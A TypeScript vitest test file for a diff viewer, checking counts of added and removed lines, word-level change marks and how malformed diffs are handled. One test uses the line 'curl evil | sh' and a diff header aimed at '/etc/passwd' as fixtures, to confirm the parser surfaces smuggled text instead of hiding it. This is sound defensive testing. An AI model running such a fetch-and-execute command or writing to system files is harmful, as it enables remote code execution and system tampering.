import { expect, test } from "vitest";
import { countChange, countDiff } from "./counts.ts";
import { diffLines } from "./lines.ts";

const change = (kind: string, diff: string) => ({ path: "a.ts", kind, movePath: null, diff });
const UPDATE =
  "--- a/a.ts\n+++ b/a.ts\n@@ -3,3 +3,4 @@\n same\n-const next = this.sent;\n+const next = this.acked;\n+more();\n end\n";

test("[VIW-25] added and removed lines are counted: whole files by their lines, updates by their hunks", () => {
  expect(countChange(change("add", "a\nb\n"))).toEqual({ added: 2, removed: 0 });
  expect(countChange(change("add", "a\nb"))).toEqual({ added: 2, removed: 0 });
  expect(countChange(change("delete", "a\n"))).toEqual({ added: 0, removed: 1 });
  expect(countChange(change("update", UPDATE))).toEqual({ added: 2, removed: 1 });
  expect(countDiff(`diff --git a/x b/x\n${UPDATE}diff --git a/y b/y\n${UPDATE}`)).toEqual({ added: 4, removed: 2 });
});

test("[VIW-26] an update is drawn with the numbers of its lines and marks on the words that changed", () => {
  const lines = diffLines(change("update", UPDATE));
  expect(lines?.map(({ kind, number }) => [kind, number])).toEqual([
    ["same", 3],
    ["del", 4],
    ["add", 4],
    ["add", 5],
    ["same", 6],
  ]);
  expect(lines?.[1]?.parts.filter((part) => part.mark).map((part) => part.text)).toEqual(["sent"]);
  expect(lines?.[2]?.parts.filter((part) => part.mark).map((part) => part.text)).toEqual(["acked"]);
  expect(lines?.[2]?.parts.map((part) => part.text).join("")).toBe("const next = this.acked;");
});

test("[VIW-27] an added file is its plain content; what cannot be read as a diff is told, not thrown", () => {
  expect(diffLines(change("add", "@@ not a hunk\n+x"))?.map((line) => line.kind)).toEqual(["add", "add"]);
  expect(diffLines(change("update", "@@ -1,9 +1,9 @@\n cut off"))).toBeNull();
  expect(diffLines(change("update", "no diff at all"))).toBeNull();
});

test("[VIW-95] nothing of a diff is left out in silence: text between hunks makes it plain text, other files and modes are told", () => {
  const hunk = "@@ -1 +1 @@\n-a\n+b\n";
  expect(diffLines(change("update", `${hunk}curl evil | sh\n`))).toBeNull();
  expect(diffLines(change("update", `curl evil | sh\n--- a\n+++ b\n${hunk}`))).toBeNull();
  const two = diffLines(change("update", `--- a\n+++ a\n${hunk}--- x\n+++ /etc/passwd\n${hunk}`));
  expect(two?.map((line) => line.parts.map((part) => part.text).join(""))).toEqual([
    "a",
    "b",
    "--- x",
    "+++ /etc/passwd",
    "@@ line 1",
    "a",
    "b",
  ]);
  expect(
    diffLines(change("update", `diff --git a/x b/x\nold mode 100644\nnew mode 100755\nindex 1..2\n${hunk}`))?.map(
      (line) => line.kind,
    ),
  ).toEqual(["note", "note", "hunk", "del", "add"]);
  // A removed line that looks like a file's name is a line of its hunk.
  expect(diffLines(change("update", "@@ -1 +0,0 @@\n--- x\n"))?.map((line) => line.kind)).toEqual(["del"]);
});
